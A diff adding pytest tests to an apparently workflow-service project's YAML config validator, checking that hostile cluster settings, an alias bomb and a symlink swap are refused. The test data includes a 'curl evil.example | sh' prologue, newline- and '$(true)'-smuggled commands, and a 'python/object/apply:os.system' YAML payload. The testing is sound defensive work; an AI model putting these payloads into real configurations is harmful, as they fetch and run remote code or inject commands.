@@ -137,6 +137,57 @@ def test_paths_outside_the_root_are_refused(tmp_path, source):
 
 
 @pytest.mark.parametrize(
+    "section",
+    [
+        "cluster: {kind: 'tcp://evil.example:8786'}",
+        "cluster: {kind: slurm, slurm: {prologue: ['curl evil.example | sh']}}",
+        "cluster: {kind: slurm, slurm: {directives: ['--wrap=true']}}",
+        "cluster: {kind: slurm, slurm: {python: /tmp/evil}}",
+        'cluster: {kind: slurm, slurm: {partition: "cpu\\ncurl evil.example"}}',
+        "cluster: {kind: slurm, slurm: {account: '$(true)'}}",
+        "cluster: {workers: 2}\nlaunch: {nodes: 2, slurm: {prologue: [true]}}",
+        "cluster: {workers: 2}\nlaunch: {nodes: 2, cache: '$(true)'}",
+        "cluster: {workers: 2}\nlaunch: {nodes: 2, cache: '/etc'}",
+    ],
+)
+def test_what_would_run_the_senders_program_is_refused(tmp_path, section):
+    text = line.PIPELINE.replace("cluster: {kind: local, workers: 2}", section)
+    assert text != line.PIPELINE
+    with pytest.raises(UsageError, match=r"mine\.yaml:"):
+        checked(text, name="mine", root=tmp_path)
+
+
+def test_a_plain_cluster_is_taken(tmp_path):
+    slurm = "cluster: {kind: slurm, workers: 4, slurm: {partition: cpu, account: phys, walltime: '04:00:00'}}"
+    checked(line.PIPELINE.replace("cluster: {kind: local, workers: 2}", slurm), name="mine", root=tmp_path)
+
+
+def test_a_bomb_of_aliases_is_refused_soon(tmp_path):
+    names = "abcdefghij"
+    lines = ["a: &a [x, x, x, x, x, x, x, x, x]"]
+    lines += [f"{n}: &{n} [{', '.join(9 * ['*' + before])}]" for before, n in itertools.pairwise(names)]
+    begun = time.process_time()
+    with pytest.raises(UsageError, match="aliases"):
+        checked("\n".join(lines), name="mine", root=tmp_path)
+    assert time.process_time() - begun < 20
+
+
+def test_a_file_that_is_changed_for_a_link_meanwhile_is_not_read(tmp_path):
+    from exitwave.workflows.service.catalogue import read_inside
+
+    root = tmp_path / "root"
+    (root / "run").mkdir(parents=True)
+    (root / "run" / "report.html").write_text("ours")
+    (tmp_path / "elsewhere").mkdir()
+    (tmp_path / "elsewhere" / "report.html").write_text("another's")
+    assert read_inside(root, root / "run" / "report.html") == b"ours"
+    (root / "run").rename(root / "before")
+    (root / "run").symlink_to(tmp_path / "elsewhere")  # between the look at the folder and the opening
+    assert read_inside(root, root / "run" / "report.html") is None
+    assert read_inside(root, root / "nothing") is None and read_inside(root, root / "before") is None
+
+
+@pytest.mark.parametrize(
     "text",
     [
         "!!python/object/apply:os.system ['true']",
